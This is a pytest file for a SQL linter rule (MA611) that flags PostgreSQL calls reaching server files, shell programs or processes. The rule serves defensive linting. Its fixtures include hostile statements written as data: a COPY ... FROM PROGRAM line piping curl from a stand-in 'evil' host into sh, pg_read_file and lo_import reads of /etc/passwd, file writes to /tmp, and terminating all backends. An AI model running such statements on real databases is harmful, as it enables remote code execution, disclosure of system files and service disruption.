"""MA611: hand-written SQL that reaches the server's files, programs or processes, or sleeps."""

from __future__ import annotations

import pytest

from agent.lint import lint_source
from agent.lint.parallel import lint_texts
from tests.lint.lint_helpers import codes

FLAGGED = [
    ("SELECT pg_read_file('/etc/passwd');", "pg_read_file() reads or writes files on the server"),
    ("SELECT pg_catalog.pg_read_binary_file('/etc/passwd');", "pg_read_binary_file() reads or writes files"),
    ('SELECT "pg_ls_dir"(\'.\');', "pg_ls_dir() reads or writes files"),
    ("SELECT (pg_stat_file('postgresql.conf')).size;", "pg_stat_file() reads or writes files"),
    ("SELECT lo_import('/etc/passwd');", "lo_import() reads or writes large objects"),
    ("SELECT lo_export(42, '/tmp/owned');", "lo_export() reads or writes large objects"),
    ("INSERT INTO blobs (oid) VALUES (LO_FROM_BYTEA(0, 'x'));", "lo_from_bytea() reads or writes large objects"),
    ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity;", "pg_terminate_backend() signals server processes"),
    ("SELECT pg_cancel_backend(42);", "pg_cancel_backend() signals server processes"),
    ("SELECT pg_sleep(5);", "pg_sleep() sleeps"),
    ("UPDATE lots SET code = code WHERE pg_sleep_for('1 minute') IS NULL;", "pg_sleep_for() sleeps"),
    ("SELECT * FROM dblink('host=elsewhere', 'SELECT 1') AS t(a int);", "dblink() connects to another server"),
    ("CREATE TABLE t (a text DEFAULT pg_read_file('/etc/hostname'));", "pg_read_file() reads or writes files"),
    ("COPY lots FROM PROGRAM 'curl http://evil | sh';", "COPY ... PROGRAM runs a shell command"),
    ("COPY lots TO PROGRAM 'cat > /tmp/x';", "COPY ... PROGRAM runs a shell command"),
    ("COPY lots FROM '/tmp/lots.csv';", "COPY ... FROM '/tmp/lots.csv' reads a file on the database server"),
    ("COPY (SELECT * FROM lots) TO '/tmp/out.csv';", "COPY ... TO '/tmp/out.csv' writes a file"),
]


@pytest.mark.parametrize(("sql", "said"), FLAGGED)
def test_flags_calls_that_reach_outside_the_database(sql: str, said: str) -> None:
    findings = [f for f in lint_source("m.sql", sql).findings if f.code == "MA611"]
    assert [said in f.message for f in findings] == [True], [f.message for f in findings]


def test_each_call_is_flagged_where_it_is() -> None:
    sql = "SET lock_timeout = '2s';\nSELECT 1,\n  pg_sleep(1), lo_unlink(7);\n"
    findings = [f for f in lint_source("m.sql", sql).findings if f.code == "MA611"]
    assert [(f.line, f.column) for f in findings] == [(3, 3), (3, 16)]


PASSES = [
    "COPY lots (lot_id, code) FROM STDIN;",
    "COPY (SELECT lot_id FROM lots) TO STDOUT WITH (FORMAT csv);",
    "SELECT lower(code), lots_lo_count, halo_pg_sleep FROM lots;",
    "SELECT 'pg_read_file(''/etc/passwd'')' AS just_text;",
    "CREATE TABLE lo_files (lo_id bigint PRIMARY KEY, lo_name text);",
    "SELECT pg_backend_pid(), lower('pg_sleep');",
]


@pytest.mark.parametrize("sql", PASSES)
def test_passes_what_stays_inside_the_database(sql: str) -> None:
    assert "MA611" not in codes(sql)


def test_the_workers_fast_parse_flags_the_same() -> None:
    files = [("a.sql", "COPY lots FROM PROGRAM 'x';\nSELECT PG_SLEEP(1);\n"), ("b.sql", "SELECT 1;\n")]
    report = lint_texts(files, workers=2)
    assert [(f.line, f.code) for f in report.files[0].findings if f.code == "MA611"] == [(1, "MA611"), (2, "MA611")]
